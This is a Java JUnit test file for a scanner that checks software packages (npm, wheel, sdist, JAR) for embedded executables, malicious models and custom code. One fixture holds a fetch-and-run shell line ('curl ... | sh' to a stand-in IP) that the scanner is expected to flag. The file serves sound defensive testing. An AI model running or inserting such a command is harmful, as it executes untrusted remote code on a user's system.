package io.modelgate.scanner.packaging;

import io.modelgate.scanner.Limits;
import io.modelgate.scanner.analysis.FileCollector;
import io.modelgate.scanner.model.Finding;
import io.modelgate.scanner.model.Severity;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static io.modelgate.scanner.packaging.PackageArchives.elf;
import static io.modelgate.scanner.packaging.PackageArchives.fixture;
import static io.modelgate.scanner.testing.ArtifactScan.aboveInfo;
import static io.modelgate.scanner.testing.ArtifactScan.ruleIds;
import static io.modelgate.scanner.testing.ArtifactScan.scan;
import static org.assertj.core.api.Assertions.assertThat;

class SoftwarePackageTest {

    private static final String NODE_BIN = "#!/usr/bin/env node\n'use strict'\nrequire('../lib/cli').main(process.argv)\n";
    private static final String SUBPROCESS_MODULE = "import subprocess\n\ndef convert(path):\n"
            + "    return subprocess.check_output(['ffmpeg', '-i', path])\n";

    private static PackageArchives npm(String packageJson) {
        return new PackageArchives()
                .add("package/package.json", packageJson)
                .add("package/bin/cli.js", NODE_BIN)
                .add("package/prebuilds/linux-x64/addon.node", elf())
                .add("package/scripts/postbuild.sh", "#!/bin/sh\nnode-gyp rebuild\n")
                .add("package/models/mlp.onnx", fixture("onnx/benign/mlp_opset17.onnx"));
    }

    private static final String NPM_MANIFEST = "{\"name\": \"@acme/vad\", \"version\": \"1.4.2\", "
            + "\"bin\": {\"vad\": \"bin/cli.js\"}}";

    @Test
    void npmPackageProgramsAreItsOwnAndItsModelIsAnalysed() {
        FileCollector result = scan("acme-vad-1.4.2.tgz", npm(NPM_MANIFEST).tgz());
        assertThat(aboveInfo(result)).isEmpty();
        assertThat(result.incompleteReasons()).isEmpty();
        assertThat(result.innerFormats()).contains("npm-package", "onnx", "executable");
        String tar = "acme-vad-1.4.2.tgz!acme-vad-1.4.2.tar";
        assertThat(result.facts())
                .containsEntry(tar + "#package.ecosystem", "npm")
                .containsEntry(tar + "#package.name", "@acme/vad")
                .containsEntry(tar + "#package.version", "1.4.2")
                .containsEntry(tar + "!package/bin/cli.js#executable.package", "npm package @acme/vad 1.4.2")
                .containsEntry(tar + "!package/prebuilds/linux-x64/addon.node#executable.kind", "ELF 64-bit LSB")
                .containsKey(tar + "!package/models/mlp.onnx#onnx.nodeCount");
    }

    @Test
    void maliciousModelInsidePackageFails() {
        byte[] bytes = npm(NPM_MANIFEST).add("package/models/encoder.pt", fixture("torch/evil_reduce.pt")).tgz();
        FileCollector result = scan("acme-vad-1.4.2.tgz", bytes);
        assertThat(result.findings()).anySatisfy(f -> {
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            assertThat(f.location().toString()).contains("package/models/encoder.pt!evil_reduce/data.pkl");
        });
    }

    @Test
    void programsInsideModelArchivesOfAPackageStayFindings() {
        byte[] modelArchive = new PackageArchives().add("model/config.json", "{}").add("model/run", elf())
                .add("model/setup.sh", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n").zip();
        FileCollector result = scan("acme.tgz", npm(NPM_MANIFEST).add("package/models/bundle.zip", modelArchive).tgz());
        assertThat(ruleIds(result)).containsExactlyInAnyOrder("MG-EXE-002", "MG-EXE-004");
        assertThat(result.findings()).allSatisfy(f -> assertThat(f.location().toString()).contains("bundle.zip!model/"));
    }

    @Test
    void withoutAWellFormedManifestTheArchiveIsAPlainTar() {
        for (String manifest : new String[]{"not json", "[1, 2]", "{\"version\": \"1.0.0\"}"}) {
            FileCollector result = scan("x.tgz", npm(manifest).tgz());
            assertThat(ruleIds(result)).contains("MG-EXE-002", "MG-EXE-004");
            assertThat(result.facts()).containsEntry("x.tgz!x.tar#package.manifest",
                    "missing or malformed: analysed as a plain tar");
        }
        PackageArchives twoRoots = npm(NPM_MANIFEST).add("other/readme.txt", "x");
        assertThat(ruleIds(scan("x.tgz", twoRoots.tgz()))).contains("MG-EXE-002");
    }

    @Test
    void wheelNamesItselfAndItsModulesAreNotCustomCode() {
        byte[] wheel = new PackageArchives()
                .add("acme_vad/__init__.py", "")
                .add("acme_vad/convert.py", SUBPROCESS_MODULE)
                .add("acme_vad/_native.cpython-311-x86_64-linux-gnu.so", elf())
                .add("acme_vad/models/mlp.onnx", fixture("onnx/benign/mlp_opset17.onnx"))
                .add("acme_vad-0.3.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme-vad\nVersion: 0.3.0\n"
                        + "Summary: voice activity\n\nLong description: with a colon\n")
                .add("acme_vad-0.3.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: bdist_wheel\n"
                        + "Root-Is-Purelib: false\nTag: cp311-cp311-linux_x86_64\n")
                .add("acme_vad-0.3.0.dist-info/RECORD", "").zip();
        FileCollector result = scan("acme_vad-0.3.0-cp311-cp311-linux_x86_64.whl", wheel);
        assertThat(result.format().id()).isEqualTo("python-wheel");
        assertThat(aboveInfo(result)).isEmpty();
        assertThat(result.facts()).containsEntry("package.ecosystem", "pypi").containsEntry("package.name", "acme-vad")
                .containsEntry("package.version", "0.3.0");

        byte[] evil = new PackageArchives().add("acme_vad/convert.py", SUBPROCESS_MODULE).zip();
        assertThat(ruleIds(scan("helpers.zip", evil))).contains("MG-PY-001");
    }

    @Test
    void jarIsNamedFromMavenCoordinatesAndBundledModelsAreAnalysed() {
        PackageArchives jar = new PackageArchives()
                .add("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nCreated-By: Maven JAR Plugin 3.4.1\r\n"
                        + "Automatic-Module-Name: com.acme.embed\r\n\r\n")
                .add("META-INF/maven/com.acme/embed-minilm/pom.properties",
                        "#Created by Apache Maven\nartifactId=embed-minilm\ngroupId=com.acme\nversion=2.0.1\n")
                .add("com/acme/embed/Model.class", new byte[]{(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 61})
                .add("linux-x64/libembed.so", elf())
                .add("minilm.onnx", fixture("onnx/benign/mlp_opset13.onnx"));
        FileCollector result = scan("embed-minilm-2.0.1.jar", jar.zip());
        assertThat(result.format().id()).isEqualTo("java-archive");
        assertThat(aboveInfo(result)).isEmpty();
        assertThat(result.incompleteReasons()).isEmpty();
        assertThat(result.facts()).containsEntry("package.name", "com.acme:embed-minilm")
                .containsEntry("package.version", "2.0.1").containsKey("embed-minilm-2.0.1.jar!minilm.onnx#onnx.nodeCount");

        FileCollector evil = scan("embed.jar", jar.add("weights.pt", fixture("torch/evil_reduce.pt")).zip());
        assertThat(evil.findings()).extracting(Finding::severity).contains(Severity.CRITICAL);
    }

    @Test
    void jarWithoutMavenCoordinatesUsesItsManifest() {
        byte[] jar = new PackageArchives().add("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nImplementation-Title: "
                + "embedder-with-a-very-long-title-that-the-jar-tool-wra\n pped\nImplementation-Version: 3\n").zip();
        assertThat(scan("e.jar", jar).facts()).containsEntry("package.name",
                "embedder-with-a-very-long-title-that-the-jar-tool-wrapped").containsEntry("package.version", "3");
        byte[] notManifest = new PackageArchives().add("META-INF/MANIFEST.MF", "hello").add("run", elf()).zip();
        assertThat(ruleIds(scan("e.jar", notManifest))).containsExactly("MG-EXE-002");
    }

    @Test
    void jarNestedInAJarOwnsItsOwnPrograms() {
        byte[] inner = new PackageArchives().add("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"
                + "Implementation-Title: native-lib\n").add("linux/libx.so", elf()).zip();
        byte[] fat = new PackageArchives().add("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"
                + "Implementation-Title: app\n").add("BOOT-INF/lib/native-lib.jar", inner).zip();
        FileCollector result = scan("app.jar", fat);
        assertThat(aboveInfo(result)).isEmpty();
        assertThat(result.facts()).containsEntry("app.jar!BOOT-INF/lib/native-lib.jar!linux/libx.so#executable.package",
                "Java archive native-lib");
    }

    @Test
    void programInACompressedStreamOfAPackageIsNotItsOwn() throws Exception {
        java.io.ByteArrayOutputStream gz = new java.io.ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream out = new java.util.zip.GZIPOutputStream(gz)) {
            out.write(elf());
        }
        FileCollector result = scan("acme.tgz", npm(NPM_MANIFEST).add("package/models/weights.bin.gz",
                gz.toByteArray()).tgz());
        assertThat(ruleIds(result)).containsExactly("MG-EXE-002");
    }

    @Test
    void sdistNamesItself() {
        byte[] sdist = new PackageArchives()
                .add("acme-vad-0.3.0/PKG-INFO", "Metadata-Version: 1.2\nName: acme-vad\nVersion: 0.3.0\n")
                .add("acme-vad-0.3.0/setup.py", "from setuptools import setup\nsetup()\n")
                .add("acme-vad-0.3.0/acme_vad/convert.py", SUBPROCESS_MODULE)
                .add("acme-vad-0.3.0/tools/release.sh", "#!/bin/bash\ntwine upload dist/*\n").tgz();
        FileCollector result = scan("acme-vad-0.3.0.tar.gz", sdist);
        assertThat(aboveInfo(result)).isEmpty();
        assertThat(result.innerFormats()).contains("python-sdist");
        assertThat(result.facts()).containsEntry("acme-vad-0.3.0.tar.gz!acme-vad-0.3.0.tar#package.name", "acme-vad");
    }

    @Test
    void realNpmPackageWithNodeBinScriptIsClean() {
        FileCollector result = scan("semver-7.8.6.tgz", fixture("packages/semver-7.8.6.tgz"));
        assertThat(aboveInfo(result)).isEmpty();
        assertThat(result.incompleteReasons()).isEmpty();
        assertThat(result.facts())
                .containsEntry("semver-7.8.6.tgz!semver-7.8.6.tar#package.name", "semver")
                .containsEntry("semver-7.8.6.tgz!semver-7.8.6.tar!package/bin/semver.js#executable.interpreter", "node");
    }

    @Test
    void manifestValuesAreBoundedAndPrintable() {
        String longName = "x".repeat(5000);
        byte[] jar = new PackageArchives().add("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nImplementation-Title: "
                + longName + "\u0007\n").zip();
        Object name = scan("e.jar", jar, Limits.defaults()).facts().get("package.name");
        assertThat(name.toString()).hasSizeLessThan(300).doesNotContain("\u0007");
        assertThat(PackageManifests.headers("A: 1\n\nB: 2\n".getBytes(StandardCharsets.UTF_8), true)).containsOnlyKeys("a");
    }
}
